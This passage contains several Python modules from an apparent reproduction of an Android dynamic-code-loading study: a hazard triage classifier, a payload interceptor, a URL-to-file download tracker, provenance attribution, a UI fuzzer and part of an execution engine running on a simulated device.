    # Besides the exact path, each load contributes its directory, its
    # basename, and the digit-stripped basename *shape* -- the transferable
    # features a per-app random payload name still shares with its family.
    for path in sorted(dcl.dex_paths()):
        norm = _normalize_path(path, package)
        add("dex_path:{}".format(norm))
        add("dex_base:{}".format(_basename(norm)))
        add("dex_shape:{}".format(_shape(_basename(norm))))
        add("dex_dirname:{}".format(_dirname(norm)))
        add("dex_dir:{}".format(_top_dir(norm)))
    for path in sorted(dcl.native_paths()):
        norm = _normalize_path(path, package)
        add("native_path:{}".format(norm))
        add("native_base:{}".format(_basename(norm)))
        add("native_shape:{}".format(_shape(_basename(norm))))
        add("native_dirname:{}".format(_dirname(norm)))
    for site in dcl.call_sites():
        add("call_site:{}".format(_normalize_path(site, package)))

    # Download-tracker flow shape: per-rule edge histogram + graph extent.
    for edge in dynamic.tracker.edges:
        add("flow_rule:{}".format(edge.rule))
    add("url_nodes", float(len(dynamic.tracker.url_nodes())))
    add("downloaded_files", float(len(dynamic.tracker.downloaded_files())))

    # Intercepted payloads: kind/loader/size/provenance histograms.
    for payload in dynamic.intercepted:
        norm = _normalize_path(payload.path, package)
        add("payload_kind:{}".format(payload.kind.value))
        add("payload_loader:{}".format(payload.loader))
        add("payload_base:{}".format(_basename(norm)))
        add("payload_shape:{}".format(_shape(_basename(norm))))
        add("payload_dirname:{}".format(_dirname(norm)))
        add("payload_size:{}".format(_size_bucket(len(payload.data))))
        if dynamic.tracker.is_remote(payload.path):
            add("payload_remote")

    # Firewall/provenance signals (present only on defended sessions).
    if dynamic.firewall_policy:
        add("fw_policy:{}".format(dynamic.firewall_policy))
    for decision in dynamic.firewall_decisions:
        verdict = getattr(decision, "verdict", None)
        rule = getattr(decision, "rule", None)
        if verdict is None and isinstance(decision, dict):
            verdict = decision.get("verdict", "")
            rule = decision.get("rule", "")
        add("fw:{}:{}".format(verdict, rule))

    return TriageFingerprint(
        package=package,
        features=features,
        vector=vectorize(features),
        digest=fingerprint_digest(features),
    )
