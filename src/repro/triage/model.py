"""The tier-0 classifier: hashed features + stdlib logistic regression.

A deliberately tiny model: ``N_FEATURES + 1`` floats trained by seeded SGD.
No third-party dependency, deterministic given (samples, hyperparameters,
seed), and serialized to a versioned JSON file whose train-config
fingerprint lets ``repro triage inspect`` and the service stats tell two
models apart without diffing weights.

Python's ``json`` emits ``repr``-round-trippable floats, so ``save`` ->
``load`` reproduces the exact weights -- scoring after a round trip is
bit-identical to scoring the freshly trained model.
"""

from __future__ import annotations

import hashlib
import json
import math
import random
from dataclasses import dataclass, field
from typing import Dict, List, Sequence, Tuple

from repro.triage.fingerprint import FINGERPRINT_VERSION, N_FEATURES

#: bump when the JSON model layout changes incompatibly.
MODEL_VERSION = 1

#: default SGD hyperparameters (exposed as ``repro triage train`` flags).
DEFAULT_EPOCHS = 40
DEFAULT_LEARNING_RATE = 0.5
DEFAULT_L2 = 1e-4


class TriageError(Exception):
    """A triage model could not be loaded, trained, or applied."""


def _sigmoid(z: float) -> float:
    if z >= 0:
        return 1.0 / (1.0 + math.exp(-min(z, 60.0)))
    return math.exp(max(z, -60.0)) / (1.0 + math.exp(max(z, -60.0)))


@dataclass
class TriageModel:
    """Logistic-regression weights over the hashed fingerprint space."""

    weights: List[float]
    bias: float = 0.0
    n_features: int = N_FEATURES
    fingerprint_version: int = FINGERPRINT_VERSION
    #: training provenance, carried verbatim in the model file.
    train_config: Dict[str, object] = field(default_factory=dict)

    def __post_init__(self) -> None:
        if len(self.weights) != self.n_features:
            raise TriageError(
                "weight vector has {} entries, expected {}".format(
                    len(self.weights), self.n_features
                )
            )

    # -- scoring ---------------------------------------------------------------

    def predict_proba(self, vector: Sequence[float]) -> float:
        """P(hazard) for one fingerprint vector."""
        if len(vector) != self.n_features:
            raise TriageError(
                "vector has {} entries, model expects {}".format(
                    len(vector), self.n_features
                )
            )
        z = self.bias
        for w, x in zip(self.weights, vector):
            z += w * x
        return _sigmoid(z)

    # -- serialization ---------------------------------------------------------

    @property
    def config_fingerprint(self) -> str:
        """sha256 over the training configuration (not the weights)."""
        canonical = repr(
            (
                "triage-model",
                MODEL_VERSION,
                self.fingerprint_version,
                self.n_features,
                tuple(sorted(self.train_config.items())),
            )
        )
        return hashlib.sha256(canonical.encode("utf-8")).hexdigest()

    def to_dict(self) -> Dict[str, object]:
        return {
            "model_version": MODEL_VERSION,
            "fingerprint_version": self.fingerprint_version,
            "n_features": self.n_features,
            "train_config": dict(sorted(self.train_config.items())),
            "config_fingerprint": self.config_fingerprint,
            "bias": self.bias,
            "weights": list(self.weights),
        }

    @classmethod
    def from_dict(cls, data: Dict[str, object]) -> "TriageModel":
        version = data.get("model_version")
        if version != MODEL_VERSION:
            raise TriageError(
                "unsupported triage model version {!r} (expected {})".format(
                    version, MODEL_VERSION
                )
            )
        if data.get("fingerprint_version") != FINGERPRINT_VERSION:
            raise TriageError(
                "model was trained on fingerprint version {!r}, "
                "this build extracts version {}".format(
                    data.get("fingerprint_version"), FINGERPRINT_VERSION
                )
            )
        return cls(
            weights=[float(w) for w in data["weights"]],
            bias=float(data["bias"]),
            n_features=int(data["n_features"]),
            fingerprint_version=int(data["fingerprint_version"]),
            train_config=dict(data.get("train_config", {})),
        )

    def save(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as handle:
            json.dump(self.to_dict(), handle, indent=1, sort_keys=True)
            handle.write("\n")

    @classmethod
    def load(cls, path: str) -> "TriageModel":
        try:
            with open(path, "r", encoding="utf-8") as handle:
                data = json.load(handle)
        except OSError as exc:
            raise TriageError("cannot read triage model {}: {}".format(path, exc))
        except ValueError as exc:
            raise TriageError("triage model {} is not JSON: {}".format(path, exc))
        return cls.from_dict(data)


def train_model(
    samples: Sequence[Tuple[Sequence[float], int]],
    epochs: int = DEFAULT_EPOCHS,
    learning_rate: float = DEFAULT_LEARNING_RATE,
    l2: float = DEFAULT_L2,
    seed: int = 0,
    pos_weight: float = 0.0,
) -> TriageModel:
    """Seeded SGD over ``(vector, label)`` pairs; label 1 = hazard.

    Deterministic: the per-epoch shuffle comes from one ``random.Random``
    seeded by ``seed``, and weights start at zero.

    ``pos_weight`` scales the gradient of hazard samples; hazards are a
    few percent of any realistic corpus and triage must be recall-first,
    so the default (0.0 = auto) balances the classes by weighting each
    hazard sample ``n_benign / n_hazard``, capped at 10x.
    """
    if not samples:
        raise TriageError("cannot train on an empty sample set")
    n_hazard = sum(1 for _, label in samples if label)
    if n_hazard in (0, len(samples)):
        raise TriageError(
            "training data needs both classes (got {} hazard / {} total)".format(
                n_hazard, len(samples)
            )
        )
    for vector, _ in samples:
        if len(vector) != N_FEATURES:
            raise TriageError(
                "sample vector has {} entries, expected {}".format(
                    len(vector), N_FEATURES
                )
            )

    if pos_weight <= 0.0:
        pos_weight = min((len(samples) - n_hazard) / n_hazard, 10.0)

    weights = [0.0] * N_FEATURES
    bias = 0.0
    rng = random.Random(seed)
    order = list(range(len(samples)))
    for _ in range(epochs):
        rng.shuffle(order)
        for i in order:
            vector, label = samples[i]
            z = bias
            for w, x in zip(weights, vector):
                z += w * x
            gradient = _sigmoid(z) - float(label)
            if label:
                gradient *= pos_weight
            bias -= learning_rate * gradient
            for j, x in enumerate(vector):
                if x:
                    weights[j] -= learning_rate * (gradient * x + l2 * weights[j])

    return TriageModel(
        weights=weights,
        bias=bias,
        train_config={
            "epochs": epochs,
            "learning_rate": learning_rate,
            "l2": l2,
            "seed": seed,
            "pos_weight": round(pos_weight, 4),
            "n_samples": len(samples),
            "n_hazard": n_hazard,
        },
    )
