"""Code interception: dump every dynamically loaded binary.

Loaded files may be temporary (ad libraries delete payloads after merging),
so interception is racy by nature.  The instrumentation queue already blocks
delete/rename for loaded paths; this component reads the payload bytes the
moment the load event fires and keeps a host-side copy for static analysis
(the paper dumps to the device's external storage; ``mirror_to_sdcard``
reproduces that for realism and for the storage-exhaustion handling path).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.android.dex import (
    DexFile,
    DexFormatError,
    is_dex_bytes,
    is_encrypted_dex_bytes,
)
from repro.android.nativelib import NativeFormatError, NativeLibrary, is_native_bytes
from repro.runtime.device import Device
from repro.runtime.instrumentation import (
    DexLoadEvent,
    Instrumentation,
    NativeLoadEvent,
)


class PayloadKind(enum.Enum):
    DEX = "dex"
    NATIVE = "native"
    ENCRYPTED = "encrypted"
    #: an APK/ZIP container (plugin pack, feature/config split) whose dex
    #: members are the loadable code.
    APK = "apk"
    UNKNOWN = "unknown"


def classify_payload(data: bytes) -> PayloadKind:
    if is_dex_bytes(data):
        return PayloadKind.DEX
    if is_native_bytes(data):
        return PayloadKind.NATIVE
    if is_encrypted_dex_bytes(data):
        return PayloadKind.ENCRYPTED
    if data.startswith(b"PK\x03\x04"):
        return PayloadKind.APK
    return PayloadKind.UNKNOWN


@dataclass
class InterceptedPayload:
    """One dumped binary with its load context."""

    path: str
    data: bytes
    kind: PayloadKind
    app_package: str
    call_site: Optional[str]
    loader: str                      # loader kind or JNI api name
    timestamp_ms: int

    def as_dex(self) -> Optional[DexFile]:
        if self.kind is PayloadKind.APK:
            # Containers analyze as the merge of their dex members, the
            # same view the classloader defines from them.
            from repro.android.apk import Apk, ApkFormatError

            try:
                container = Apk.from_bytes(self.data)
            except ApkFormatError:
                return None
            merged = DexFile(source_name=self.path.rsplit("/", 1)[-1])
            for dex in container.dex_files():
                merged.merge(dex)
            return merged if merged.classes else None
        if self.kind is not PayloadKind.DEX:
            return None
        try:
            return DexFile.from_bytes(self.data)
        except DexFormatError:
            return None

    def as_native(self) -> Optional[NativeLibrary]:
        if self.kind is not PayloadKind.NATIVE:
            return None
        try:
            return NativeLibrary.from_bytes(self.data)
        except NativeFormatError:
            return None


@dataclass
class CodeInterceptor:
    """Subscribes to load events and dumps the referenced files."""

    device: Device
    mirror_to_sdcard: bool = False
    payloads: List[InterceptedPayload] = field(default_factory=list)
    _by_path: Dict[str, InterceptedPayload] = field(default_factory=dict)
    _dump_counter: int = 0

    def attach(self, instrumentation: Instrumentation) -> "CodeInterceptor":
        self._instrumentation = instrumentation
        instrumentation.on_dex_load(self._on_dex)
        instrumentation.on_native_load(self._on_native)
        return self

    # -- event handlers ---------------------------------------------------------

    def _on_dex(self, event: DexLoadEvent) -> None:
        for path in event.dex_paths:
            self._dump(
                path,
                app_package=event.app_package,
                call_site=event.call_site,
                loader=event.loader_kind,
                timestamp_ms=event.timestamp_ms,
            )

    def _on_native(self, event: NativeLoadEvent) -> None:
        self._dump(
            event.lib_path,
            app_package=event.app_package,
            call_site=event.call_site,
            loader=event.api,
            timestamp_ms=event.timestamp_ms,
        )

    def _dump(
        self,
        path: str,
        app_package: str,
        call_site: Optional[str],
        loader: str,
        timestamp_ms: int,
    ) -> None:
        if path in self._by_path:
            return
        try:
            data = self.device.vfs.read(path)
        except FileNotFoundError:
            return  # load itself will fail; nothing to intercept
        payload = InterceptedPayload(
            path=path,
            data=data,
            kind=classify_payload(data),
            app_package=app_package,
            call_site=call_site,
            loader=loader,
            timestamp_ms=timestamp_ms,
        )
        self.payloads.append(payload)
        self._by_path[path] = payload
        if self.mirror_to_sdcard:
            self._mirror(payload)

    def _mirror(self, payload: InterceptedPayload) -> None:
        self._dump_counter += 1
        dump_path = "/mnt/sdcard/dydroid/dump_{:04d}".format(self._dump_counter)
        try:
            self.device.vfs.write(dump_path, payload.data, owner=payload.app_package)
        except OSError:
            # Storage exhaustion is handled by the engine's cleanup cycle;
            # the host-side copy in `payloads` is already safe.
            pass

    # -- queries ---------------------------------------------------------------------

    def payload_for(self, path: str) -> Optional[InterceptedPayload]:
        return self._by_path.get(path)

    def dex_payloads(self) -> List[InterceptedPayload]:
        return [p for p in self.payloads if p.kind is PayloadKind.DEX]

    def native_payloads(self) -> List[InterceptedPayload]:
        return [p for p in self.payloads if p.kind is PayloadKind.NATIVE]
