"""The UI/Application exerciser (Monkey stand-in).

The paper drives each app with Android's Monkey: a pseudo-random stream of
UI events injected into the foreground activity.  Our activities are app
classes whose public ``on*`` callback methods are the event handlers; the
fuzzer launches the activity lifecycle and then fires a seeded random
sequence of callbacks.

The paper's discussion section notes that ad libraries trigger most DCL at
app launch, so even a modest event budget reaches the interesting code --
the ablation bench sweeps this budget.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import List, Optional, Sequence

from repro.android.dex import DexClass

#: Lifecycle callbacks fired in order when an activity launches.
LIFECYCLE_SEQUENCE = ("onCreate", "onStart", "onResume")


@dataclass(frozen=True)
class MonkeyEvent:
    """One injected event: which callback on which activity class."""

    activity: str
    callback: str


class Monkey:
    """Seeded pseudo-random event generator over an app's activities."""

    def __init__(self, seed: int = 0, event_budget: int = 25) -> None:
        self.seed = seed
        self.event_budget = event_budget

    def plan(
        self,
        activity_classes: Sequence[str],
        handlers_by_activity: Optional[dict] = None,
    ) -> List[MonkeyEvent]:
        """The full event schedule for one app run.

        Lifecycle events for every activity come first (launch), then
        ``event_budget`` random callbacks drawn from the activities'
        discovered handlers.
        """
        events: List[MonkeyEvent] = []
        for activity in activity_classes:
            for callback in LIFECYCLE_SEQUENCE:
                events.append(MonkeyEvent(activity=activity, callback=callback))

        rng = random.Random(self.seed)
        pool: List[MonkeyEvent] = []
        for activity in activity_classes:
            for handler in (handlers_by_activity or {}).get(activity, []):
                pool.append(MonkeyEvent(activity=activity, callback=handler))
        for _ in range(self.event_budget):
            if not pool:
                break
            events.append(rng.choice(pool))
        return events


def discover_handlers(cls: DexClass) -> List[str]:
    """Public ``on*`` methods beyond the lifecycle set -- the clickables."""
    lifecycle = set(LIFECYCLE_SEQUENCE) | {"onPause", "onStop", "onDestroy"}
    return sorted(
        method.name
        for method in cls.methods
        if method.is_public
        and method.name.startswith("on")
        and method.name not in lifecycle
    )
