"""The App Execution Engine and its dynamic-analysis components.

- :mod:`repro.dynamic.monkey` -- the UI event fuzzer (Monkey stand-in);
- :mod:`repro.dynamic.dcl_logger` -- collects DCL events off the hook bus;
- :mod:`repro.dynamic.interceptor` -- dumps loaded binaries and keeps them
  protected from delete/rename until dumped;
- :mod:`repro.dynamic.download_tracker` -- the URL -> File flow graph
  (Table I rules) answering "was this file fetched remotely?";
- :mod:`repro.dynamic.provenance` -- local/remote provenance plus
  own/third-party entity attribution from stack-trace call sites;
- :mod:`repro.dynamic.engine` -- orchestrates one app's dynamic analysis:
  rewrite, install, fuzz, collect, and replay under Table VIII environment
  configurations.
"""

from repro.dynamic.dcl_logger import DclLogger
from repro.dynamic.download_tracker import DownloadTracker
from repro.dynamic.engine import (
    AppExecutionEngine,
    DynamicOutcome,
    DynamicReport,
    EngineOptions,
)
from repro.dynamic.interceptor import CodeInterceptor, InterceptedPayload, PayloadKind
from repro.dynamic.monkey import Monkey, MonkeyEvent
from repro.dynamic.provenance import Entity, Provenance, entity_of, provenance_of

__all__ = [
    "AppExecutionEngine",
    "CodeInterceptor",
    "DclLogger",
    "DownloadTracker",
    "DynamicOutcome",
    "DynamicReport",
    "EngineOptions",
    "Entity",
    "InterceptedPayload",
    "Monkey",
    "MonkeyEvent",
    "PayloadKind",
    "Provenance",
    "entity_of",
    "provenance_of",
]
