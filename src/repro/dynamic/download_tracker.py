"""The download tracker: a taint flow graph from URLs to files (Table I).

The instrumented IO layer emits edges whenever data moves between the
modeled node kinds::

    URL -> InputStream -> Buffer -> OutputStream -> File
    File -> File (copy/rename)      File -> InputStream (re-read)

Nodes are keyed "type @ hash code" for objects and by path for files.  A
loaded file is *remotely fetched* when the graph contains a path from any
URL node to that file's node -- that is the whole provenance question the
Android OS itself cannot answer.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set

import networkx as nx

from repro.runtime.instrumentation import (
    CodeOriginEvent,
    DexLoadEvent,
    FlowEdge,
    FlowNode,
    Instrumentation,
)
from repro.runtime.vfs import normalize


class DownloadTracker:
    """Builds and queries the URL -> File flow graph of one session."""

    def __init__(self) -> None:
        self.graph = nx.DiGraph()
        self.edges: List[FlowEdge] = []
        #: per-target reverse-reachability results; cleared on mutation so
        #: is_remote/remote_sources on the same payload share one pass.
        self._reach_memo: Dict[str, Set[str]] = {}
        #: how many graph traversals the queries below have run -- the
        #: complexity probe the regression tests assert on (O(payloads),
        #: not O(payloads x URLs)).
        self.reachability_passes = 0
        #: class name -> (origin file path) of the dex it was defined from;
        #: fed by CodeOriginEvent, consumed by the staged-loader chaining.
        self._origin_of_class: Dict[str, str] = {}

    def attach(self, instrumentation: Instrumentation) -> "DownloadTracker":
        instrumentation.on_flow_edge(self.add_edge)
        instrumentation.on_code_origin(self._on_code_origin)
        instrumentation.on_dex_load(self._on_dex_load)
        return self

    # -- construction -----------------------------------------------------------

    def add_edge(self, edge: FlowEdge) -> None:
        self.edges.append(edge)
        self._ensure_node(edge.src)
        self._ensure_node(edge.dst)
        self.graph.add_edge(edge.src.key, edge.dst.key, rule=edge.rule)
        self._reach_memo.clear()

    def _ensure_node(self, node: FlowNode) -> None:
        if node.key not in self.graph:
            self.graph.add_node(node.key, kind=node.kind, detail=node.detail)

    # -- staged-loader chaining ---------------------------------------------------
    #
    # When a class defined from file A constructs a loader on file B, B's
    # provenance must include everything A's does (a dropper chain: the
    # Table I rules alone only link B to the URL the *running* code hit,
    # not to the chain that delivered that code).  CodeOriginEvent records
    # class -> defining file; on a dex-load whose call site has a recorded
    # origin we add a File -> File "StagedLoader" edge, and the ordinary
    # reverse-reachability pass then yields the full remote ancestry.

    def _on_code_origin(self, event: CodeOriginEvent) -> None:
        self._origin_of_class.setdefault(event.class_name, event.path)

    def _on_dex_load(self, event: DexLoadEvent) -> None:
        origin = self._origin_of_class.get(event.call_site or "")
        if origin is None:
            return
        src = FlowNode(key=self.file_key(origin), kind="File", detail=normalize(origin))
        for path in event.dex_paths:
            if normalize(path) == normalize(origin):
                continue
            dst = FlowNode(key=self.file_key(path), kind="File", detail=normalize(path))
            self.add_edge(FlowEdge(src=src, dst=dst, rule="StagedLoader"))

    # -- queries ------------------------------------------------------------------

    def url_nodes(self) -> List[str]:
        return [
            key
            for key, attrs in self.graph.nodes(data=True)
            if attrs.get("kind") == "URL"
        ]

    def file_key(self, path: str) -> str:
        return "file:" + normalize(path)

    def _remote_url_keys(self, target: str) -> Set[str]:
        """URL nodes that reach ``target``: ONE reverse-reachability pass.

        ``nx.ancestors`` walks the reversed graph from the file node once,
        and intersecting with the URL node set answers every "does URL u
        reach this file?" question simultaneously -- instead of one BFS
        per URL node, which made provenance quadratic on download-heavy
        sessions.  Results are memoized until the next edge arrives.
        """
        if target in self._reach_memo:
            return self._reach_memo[target]
        if target not in self.graph:
            keys: Set[str] = set()
        else:
            self.reachability_passes += 1
            keys = nx.ancestors(self.graph, target) & set(self.url_nodes())
        self._reach_memo[target] = keys
        return keys

    def is_remote(self, path: str) -> bool:
        """True when ``path``'s contents are reachable from any URL."""
        return bool(self._remote_url_keys(self.file_key(path)))

    def remote_sources(self, path: str) -> List[str]:
        """The URL specs that flowed into ``path``, sorted."""
        return sorted(
            {
                self.graph.nodes[key].get("detail", key)
                for key in self._remote_url_keys(self.file_key(path))
            }
        )

    def downloaded_files(self) -> List[str]:
        """All file paths reachable from some URL (the download closure)."""
        reachable = set()
        for url_key in self.url_nodes():
            reachable.update(nx.descendants(self.graph, url_key))
        return sorted(
            self.graph.nodes[key]["detail"]
            for key in reachable
            if self.graph.nodes[key].get("kind") == "File"
        )

    def flow_path(self, url_spec: str, path: str) -> Optional[List[str]]:
        """One witness node-kind chain from a URL to a file, for reporting."""
        target = self.file_key(path)
        for url_key in self.url_nodes():
            if self.graph.nodes[url_key].get("detail") != url_spec:
                continue
            if target in self.graph and nx.has_path(self.graph, url_key, target):
                keys = nx.shortest_path(self.graph, url_key, target)
                return [self.graph.nodes[k]["kind"] for k in keys]
        return None
