"""The DCL logger: collects load events off the instrumentation bus.

Records, per the paper: (1) the path(s) of the loaded file, (2) the
optimized-DEX output directory, (3) the call-site class from the Java stack
trace.  System binaries never reach this logger (the hooks skip
``/system/...``).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Set

from repro.runtime.instrumentation import (
    DexLoadEvent,
    Instrumentation,
    LoadRejectedEvent,
    NativeLoadEvent,
)


@dataclass
class DclLogger:
    """Accumulates the DCL events of one dynamic-analysis session."""

    dex_events: List[DexLoadEvent] = field(default_factory=list)
    native_events: List[NativeLoadEvent] = field(default_factory=list)
    #: developer-side secure-loader refusals (loads that never happened).
    rejected_events: List[LoadRejectedEvent] = field(default_factory=list)

    def attach(self, instrumentation: Instrumentation) -> "DclLogger":
        instrumentation.on_dex_load(self.dex_events.append)
        instrumentation.on_native_load(self.native_events.append)
        instrumentation.on_load_rejected(self.rejected_events.append)
        return self

    # -- queries -------------------------------------------------------------

    @property
    def has_dex_dcl(self) -> bool:
        return bool(self.dex_events)

    @property
    def has_native_dcl(self) -> bool:
        return bool(self.native_events)

    @property
    def has_rejections(self) -> bool:
        return bool(self.rejected_events)

    def rejected_paths(self) -> List[str]:
        """Distinct paths the secure loader refused, in first-seen order."""
        seen: Set[str] = set()
        ordered: List[str] = []
        for event in self.rejected_events:
            if event.path not in seen:
                seen.add(event.path)
                ordered.append(event.path)
        return ordered

    def dex_paths(self) -> List[str]:
        """Distinct bytecode paths loaded, in first-seen order."""
        seen: Set[str] = set()
        ordered: List[str] = []
        for event in self.dex_events:
            for path in event.dex_paths:
                if path not in seen:
                    seen.add(path)
                    ordered.append(path)
        return ordered

    def native_paths(self) -> List[str]:
        seen: Set[str] = set()
        ordered: List[str] = []
        for event in self.native_events:
            if event.lib_path not in seen:
                seen.add(event.lib_path)
                ordered.append(event.lib_path)
        return ordered

    def call_sites(self) -> List[str]:
        """Distinct call-site classes across all events."""
        sites = {e.call_site for e in self.dex_events if e.call_site}
        sites |= {e.call_site for e in self.native_events if e.call_site}
        return sorted(sites)
