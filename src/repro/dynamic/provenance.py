"""Provenance (local/remote) and responsible-entity attribution.

Two of the paper's three "critical questions" are answered here:

- **Where does the loaded code come from?**  Remote when the download
  tracker shows a URL -> File path for the loaded file; local otherwise
  (packaged in the APK or synthesized on device without network input).

- **Who invoked it?**  The call-site class captured from the Java stack
  trace at load time is compared against the application package: same
  namespace means the developer's own code, anything else is a third-party
  SDK/library (Fig. 2).
"""

from __future__ import annotations

import enum
from typing import Iterable, Optional, Sequence, Set, Union

from repro.dynamic.download_tracker import DownloadTracker
from repro.runtime.instrumentation import DexLoadEvent, NativeLoadEvent
from repro.runtime.stacktrace import shares_app_package

LoadEvent = Union[DexLoadEvent, NativeLoadEvent]


class Provenance(enum.Enum):
    LOCAL = "local"
    REMOTE = "remote"


class Entity(enum.Enum):
    OWN = "own"
    THIRD_PARTY = "third-party"
    UNKNOWN = "unknown"


def provenance_of(path: str, tracker: DownloadTracker) -> Provenance:
    """Local vs remote for one loaded file path."""
    return Provenance.REMOTE if tracker.is_remote(path) else Provenance.LOCAL


def entity_of(event: LoadEvent, app_package: Optional[str] = None) -> Entity:
    """Own vs third-party attribution for one DCL event."""
    package = app_package if app_package is not None else event.app_package
    if not event.call_site:
        return Entity.UNKNOWN
    if shares_app_package(event.call_site, package):
        return Entity.OWN
    return Entity.THIRD_PARTY


def entities_of(events: Iterable[LoadEvent], app_package: str) -> Set[Entity]:
    """The distinct entities behind a collection of events.

    Table IV buckets apps into third-party-only, own-only, and both; callers
    test membership on the returned set.
    """
    return {
        entity_of(event, app_package)
        for event in events
        if entity_of(event, app_package) is not Entity.UNKNOWN
    }


def remote_loaded_paths(
    events: Sequence[LoadEvent], tracker: DownloadTracker
) -> Set[str]:
    """The loaded paths whose contents were fetched over the network."""
    loaded: Set[str] = set()
    for event in events:
        if isinstance(event, DexLoadEvent):
            loaded.update(event.dex_paths)
        else:
            loaded.add(event.lib_path)
    return {path for path in loaded if tracker.is_remote(path)}
