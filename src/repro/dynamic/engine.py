"""The App Execution Engine.

For each candidate app the engine reproduces the paper's per-app session:

1. **rewrite** -- ensure ``WRITE_EXTERNAL_STORAGE`` (repack failures are the
   "Rewriting failure" outcome);
2. **provision** -- fresh device, fresh VM, instrumentation hook bus with
   the DCL logger, code interceptor, and download tracker attached; install
   companion apps (the ecosystem the app interacts with, e.g.
   ``com.adobe.air`` whose private library other apps load) and host the
   app's remote resources on the simulated network;
3. **launch** -- run the Application container class first (packers decrypt
   and load here), then drive every Activity through its lifecycle and a
   seeded Monkey event schedule (apps without activities are "No activity");
4. **survive** -- uncaught app exceptions end the session as "Crash";
   storage exhaustion triggers the automatic cleanup-and-retry the paper
   describes; runaway loops are bounded by the instruction budget;
5. **collect** -- the :class:`DynamicReport` with everything downstream
   analyses need.

``replay_under_configs`` reruns one app under the Table VIII environment
configurations (system time before release, airplane mode with/without
WiFi, location off) to expose logic-bomb trigger conditions.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.android.apk import Apk
from repro.android.manifest import ComponentKind
from repro.dynamic.dcl_logger import DclLogger
from repro.dynamic.download_tracker import DownloadTracker
from repro.dynamic.interceptor import CodeInterceptor, InterceptedPayload
from repro.dynamic.monkey import Monkey, MonkeyEvent, discover_handlers
from repro.observe.tracer import NULL_TRACER
from repro.runtime.device import (
    BASELINE_CONFIG,
    Device,
    DeviceConfig,
    EnvironmentConfig,
)
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.objects import FirewallDeniedException, VMException, VMObject
from repro.runtime.vm import BudgetExceededError, DalvikVM
from repro.static_analysis.rewriter import RepackagingError, ensure_external_write


class DynamicOutcome(enum.Enum):
    """Table II outcome buckets."""

    REWRITING_FAILURE = "rewriting-failure"
    NO_ACTIVITY = "no-activity"
    CRASH = "crash"
    EXERCISED = "exercised"


@dataclass
class EngineOptions:
    """Per-session knobs (all deterministic given the seed)."""

    monkey_seed: int = 0
    monkey_budget: int = 25
    instruction_budget: int = 200_000
    block_file_ops: bool = True          # ablation: interception mutual exclusion
    mirror_dumps_to_sdcard: bool = False
    environment: EnvironmentConfig = BASELINE_CONFIG
    release_time_ms: int = 0
    device_config: Optional[DeviceConfig] = None
    #: extension beyond the paper: also drive Service components through
    #: their lifecycle, recovering apps Monkey alone cannot exercise (the
    #: paper counts activity-less apps as "No activity" failures; we do too
    #: unless this is enabled).
    exercise_services: bool = False
    #: other APKs installed on the device before the analyzed app.
    companions: Tuple[Apk, ...] = ()
    #: URL -> payload bytes hosted on the simulated network.
    remote_resources: Dict[str, bytes] = field(default_factory=dict)
    #: named :data:`repro.defense.firewall.POLICIES` entry; None leaves the
    #: session unenforced (pure measurement, the pre-firewall behaviour).
    firewall_policy: Optional[str] = None
    #: where QUARANTINE verdicts preserve payload bytes (content-addressed).
    quarantine_dir: Optional[str] = None
    #: live verdict store consulted by the known-malware firewall rule;
    #: duck-typed to avoid importing the store at engine-import time.
    verdict_store: Optional[object] = None
    #: structured event sink for firewall enforcement records; duck-typed
    #: (:class:`repro.observe.events.EventLog` or the null log).
    events: Optional[object] = None


@dataclass
class DynamicReport:
    """Everything one dynamic-analysis session produced."""

    package: str
    outcome: DynamicOutcome
    environment: str
    rewritten: bool = False
    events_run: int = 0
    crash_reason: Optional[str] = None
    dcl: DclLogger = field(default_factory=DclLogger)
    intercepted: List[InterceptedPayload] = field(default_factory=list)
    tracker: DownloadTracker = field(default_factory=DownloadTracker)
    logcat: List[str] = field(default_factory=list)
    exfiltrated: List[Tuple[str, int]] = field(default_factory=list)
    storage_cleanups: int = 0
    #: intercepted paths still present on the device when the session ended
    #: (with delete-blocking off, temp ad payloads drop out of this list).
    surviving_paths: List[str] = field(default_factory=list)
    #: fuzzing code coverage over the app's own packaged methods (the
    #: paper's discussion: "using a fuzzing tool ... may have a code
    #: coverage problem").
    methods_total: int = 0
    methods_executed: int = 0
    #: enforcement policy in effect ("" when the firewall was off).
    firewall_policy: str = ""
    #: every inline :class:`repro.defense.firewall.FirewallDecision` of the
    #: session (a live reference to the firewall's audit trail).
    firewall_decisions: List = field(default_factory=list)

    @property
    def method_coverage(self) -> float:
        return self.methods_executed / self.methods_total if self.methods_total else 0.0

    @property
    def loads_denied(self) -> int:
        return sum(1 for d in self.firewall_decisions if d.verdict == "deny")

    @property
    def loads_quarantined(self) -> int:
        return sum(1 for d in self.firewall_decisions if d.verdict == "quarantine")

    @property
    def loads_rejected(self) -> int:
        """Developer-side secure-loader refusals observed this session."""
        return len(self.dcl.rejected_events)

    @property
    def dex_loaded(self) -> bool:
        """Whether any bytecode DCL event fired during the session."""
        return bool(self.dcl.dex_events)

    @property
    def native_loaded(self) -> bool:
        """Whether any native DCL event fired during the session."""
        return bool(self.dcl.native_events)

    @property
    def intercepted_any(self) -> bool:
        return bool(self.intercepted)

    def intercepted_paths(self) -> List[str]:
        return [payload.path for payload in self.intercepted]


class AppExecutionEngine:
    """Runs dynamic analysis sessions, one fresh device per app."""

    def __init__(self, options: Optional[EngineOptions] = None, tracer=None) -> None:
        self.options = options or EngineOptions()
        #: span sink for session phases; the null tracer costs nothing.
        self.tracer = tracer if tracer is not None else NULL_TRACER

    # -- public API -------------------------------------------------------------

    def run(self, apk: Apk, options: Optional[EngineOptions] = None) -> DynamicReport:
        """One full session for one app."""
        opts = options or self.options
        with self.tracer.span(
            "engine.session", package=apk.package, environment=opts.environment.name
        ) as span:
            report = self._run_session(apk, opts)
            span.set(
                outcome=report.outcome.value,
                events_run=report.events_run,
                intercepted=len(report.intercepted),
            )
            return report

    def _run_session(self, apk: Apk, opts: EngineOptions) -> DynamicReport:
        package = apk.package

        with self.tracer.span("engine.rewrite") as span:
            try:
                prepared, rewritten = ensure_external_write(apk)
            except RepackagingError:
                span.set(failed=True)
                return DynamicReport(
                    package=package,
